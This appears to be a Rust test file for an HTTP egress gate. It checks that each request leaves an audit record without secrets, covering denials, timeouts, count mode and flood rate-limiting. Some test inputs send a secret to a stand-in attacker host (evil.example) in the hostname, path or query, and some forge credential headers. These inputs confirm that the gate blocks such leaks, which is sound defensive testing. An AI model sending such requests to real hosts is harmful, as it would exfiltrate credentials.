//! What leaves a record, and what stands in it; and requests that are only counted.

use headcount_model::{AuditRecord, Decision, Digest, SessionId};
use tokio::sync::mpsc;

use super::server::status;
use super::*;

/// A gate with an audit trail of so many places, under these rules of the operator.
fn audited(server: &Server, room: usize, ceiling: Ceiling, mode: Mode) -> (Arc<Gate>, mpsc::Receiver<AuditRecord>) {
    let (sender, receiver) = mpsc::channel(room);
    let options = EgressOptions { audit: Some(sender), ceiling, mode, ..options(server) };
    let gate = Egress::new(options).unwrap().gate(gate_options(Budget::default())).unwrap();
    (gate, receiver)
}

#[tokio::test]
async fn a_request_leaves_one_record_of_all_that_an_operator_asks_and_none_of_its_secrets() {
    let server = Server::saying("[1]").await;
    let (gate, mut trail) = audited(&server, 8, Ceiling::default(), Mode::default());
    let digest = Digest::from_bytes([7; 32]);
    gate.of_connector(digest);
    gate.of_session(SessionId(12));
    let mut asked = request("POST", "https://api.example.com/v1/search/users?email=ana@example.com&page=2");
    *asked.body_mut() = Bytes::from_static(b"{}");
    gate.send(&Purpose::Read, asked).await.unwrap();
    let record = trail.try_recv().unwrap();
    assert!(trail.try_recv().is_err());
    assert_eq!((record.tenant.as_str(), record.connection.as_str()), ("acme", "example"));
    assert_eq!((record.session, record.connector), (Some(SessionId(12)), Some(digest)));
    let request = &record.request;
    assert_eq!((request.method.as_str(), request.host.as_str()), ("POST", "api.example.com"));
    assert_eq!(request.path, "/v1/search/users?email=&page=");
    assert_eq!((request.decision, request.rule.as_str()), (Decision::Allowed, "read-requests POST /search/*"));
    assert_eq!((request.address, request.status, request.attempts), (Some(server.address), Some(200), 1));
    assert_eq!((request.sent, request.received), (2, 3));
    assert_eq!(request.credentials, ["api-key"]);
    assert_eq!((&request.refused, request.allow.len()), (&None, 0));
    let shown = serde_json::to_string(&record).unwrap();
    assert!(!shown.contains(SECRET) && !shown.contains("ana@"), "{shown}");
}

#[tokio::test]
async fn what_is_denied_leaves_a_record_with_the_rule_and_the_line_that_would_allow_it() {
    let server = Server::saying("").await;
    let (gate, mut trail) = audited(&server, 32, Ceiling::parse(["https://api.example.com"]).unwrap(), Mode::Enforce);
    let mut forged = request("GET", USERS);
    forged.headers_mut().insert("x-api-key", "x".parse().unwrap());
    for (asked, rule, lines) in [
        (request("GET", "https://127.0.0.1/v1/users"), "the reading of URLs", &[][..]),
        (request("GET", "https://user:sesame@api.example.com/v1?q=sesame"), "the reading of URLs", &[]),
        (
            request("GET", "https://cdn.example.com/x"),
            "the manifest's hosts",
            &["hosts = [\"https://cdn.example.com/\"]", "allow-egress = [\"https://cdn.example.com/x\"]"],
        ),
        (
            request("DELETE", "https://api.example.com/v1/users/7"),
            "the manifest's read-requests",
            &["read-requests = [\"DELETE /users/7\"]"],
        ),
        (forged, "the host's headers", &[]),
        (request("GET", &format!("{USERS}/{SECRET}")), "the scan for secrets", &[]),
        // A host that is refused keeps nothing of a secret that stands in it.
        (request("GET", &format!("https://{SECRET}.evil.example/{SECRET}?{SECRET}=1")), "the manifest's hosts", &[]),
        (request(SECRET, &format!("{USERS}/x")), "the manifest's read-requests", &[]),
    ] {
        gate.send(&Purpose::Read, asked).await.unwrap_err();
        let record = trail.try_recv().unwrap();
        assert_eq!((record.request.decision, record.request.rule.as_str()), (Decision::Denied, rule));
        let refused = record.request.refused.as_deref().unwrap();
        for line in lines {
            assert!(record.request.allow.iter().any(|found| found.starts_with(line)) && refused.contains(line), "{record:?}");
        }
        let shown = serde_json::to_string(&record).unwrap();
        assert!(!shown.contains(SECRET) && !shown.contains("sesame"), "{shown}");
        assert_eq!(record.request.address, None);
    }
    assert_eq!((gate.denied(), server.seen().len()), (8, 0));
}

#[tokio::test]
async fn a_request_that_fails_or_is_given_up_leaves_a_record_too() {
    let server = Server::saying("[]").await;
    let (gate, mut trail) = audited(&server, 8, Ceiling::default(), Mode::default());
    let url = "https://api.example.com/v1/slow".parse().unwrap();
    let admitted = gate.admit(&Purpose::Read, &http::Method::GET, &url).unwrap();
    assert!(trail.try_recv().is_err());
    drop(admitted);
    let given_up = trail.try_recv().unwrap().request;
    assert_eq!((given_up.decision, given_up.status), (Decision::Allowed, None));
    assert!(given_up.refused.unwrap().contains("ended before"));
    drop(server);
    let refusal = gate.send(&Purpose::Read, request("POST", "https://api.example.com/v1/search/users")).await.unwrap_err();
    let failed = trail.try_recv().unwrap().request;
    assert_eq!((failed.decision, failed.status), (Decision::Allowed, None));
    assert_eq!(failed.refused, Some(refusal.to_string()));
}

#[tokio::test]
async fn a_full_trail_makes_requests_wait_for_room_until_their_deadline_and_loses_none() {
    let server = Server::saying("[]").await;
    let (sender, mut trail) = mpsc::channel(1);
    let options = EgressOptions { audit: Some(sender), ..options(&server) };
    let budget = Budget { call: Duration::from_millis(300), ..Budget::default() };
    let gate = Egress::new(options).unwrap().gate(gate_options(budget)).unwrap();
    get(&gate, USERS).await.unwrap();
    // Nobody receives: the next one ends with its deadline, without having left.
    assert!(matches!(get(&gate, USERS).await, Err(Refusal::Timeout { .. })));
    assert_eq!(server.seen().len(), 1);
    let (received, sent) = tokio::join!(trail.recv(), get(&gate, "https://evil.example/"));
    assert_eq!((received.unwrap().request.status, sent.is_err()), (Some(200), true));
    assert_eq!(trail.recv().await.unwrap().request.host, "evil.example");
    // An audit trail that nobody keeps any more stops no request.
    drop(trail);
    get(&gate, USERS).await.unwrap();
}

#[tokio::test]
async fn in_count_mode_a_request_that_the_manifest_denies_leaves_without_any_credential() {
    let server = Server::saying("[]").await;
    let ceiling = || Ceiling::parse(["https://api.example.com", "https://evil.example"]).unwrap();
    let (gate, mut trail) = audited(&server, 8, ceiling(), Mode::Count);
    let outside = "https://api.example.com/admin/keys";
    get(&gate, outside).await.unwrap();
    let counted = trail.try_recv().unwrap().request;
    assert_eq!((counted.decision, counted.rule.as_str()), (Decision::Counted, "allow-egress https://api.example.com"));
    assert_eq!((counted.status, counted.credentials.len()), (Some(200), 0));
    assert_eq!(counted.allow, ["hosts = [\"https://api.example.com/admin/keys\"] # in the manifest"]);
    assert!(counted.refused.unwrap().contains("is not below a path that the manifest names"));
    get(&gate, USERS).await.unwrap();
    assert_eq!(trail.try_recv().unwrap().request.credentials, ["api-key"]);
    let seen = server.seen();
    assert!(seen[0].headers.get("x-api-key").is_none() && !format!("{:?}", seen[0].headers).contains(SECRET));
    assert_eq!(seen[1].headers["x-api-key"], SECRET);
    // What the operator does not list stays where it is, and a secret in what is counted does, too.
    assert!(matches!(get(&gate, "https://other.example/").await, Err(Refusal::Policy(_))));
    assert!(matches!(get(&gate, &format!("https://evil.example/?k={SECRET}")).await, Err(Refusal::Leak { .. })));
    assert_eq!((gate.denied(), server.seen().len()), (2, 2));
}

#[tokio::test]
async fn under_enforcement_and_without_rules_of_the_operator_nothing_is_counted() {
    let server = Server::new(|_| status(200, &[])).await;
    let outside = "https://api.example.com/admin/keys";
    for (ceiling, mode) in
        [(Ceiling::Manifest, Mode::Count), (Ceiling::parse(["https://api.example.com"]).unwrap(), Mode::default())]
    {
        let (gate, mut trail) = audited(&server, 8, ceiling, mode);
        assert!(matches!(get(&gate, outside).await, Err(Refusal::Policy(_))));
        assert_eq!(trail.try_recv().unwrap().request.decision, Decision::Denied);
    }
    assert_eq!(server.seen().len(), 0);
}

#[tokio::test]
async fn a_session_that_floods_the_trail_with_denied_requests_leaves_few_records_of_them_and_each_one_of_what_left() {
    let server = Server::saying("[]").await;
    let (gate, mut trail) = audited(&server, 4_096, Ceiling::default(), Mode::default());
    for _ in 0..3_000 {
        gate.send(&Purpose::Read, request("GET", "https://evil.example/")).await.unwrap_err();
    }
    gate.send(&Purpose::Read, request("GET", USERS)).await.unwrap();
    let records: Vec<AuditRecord> = std::iter::from_fn(|| trail.try_recv().ok()).collect();
    assert_eq!((records.len(), gate.denied()), (1_003, 3_000), "the first thousand, two powers of two, and what left");
    let refused = |at: usize| records[at].request.refused.clone().unwrap_or_default();
    assert!(!refused(999).contains("number") && refused(1_001).ends_with("leave no record"), "{}", refused(1_001));
    assert!(refused(1_001).contains("number 2048 of this session's"), "{}", refused(1_001));
    assert_eq!(records[1_002].request.decision, Decision::Allowed);
}
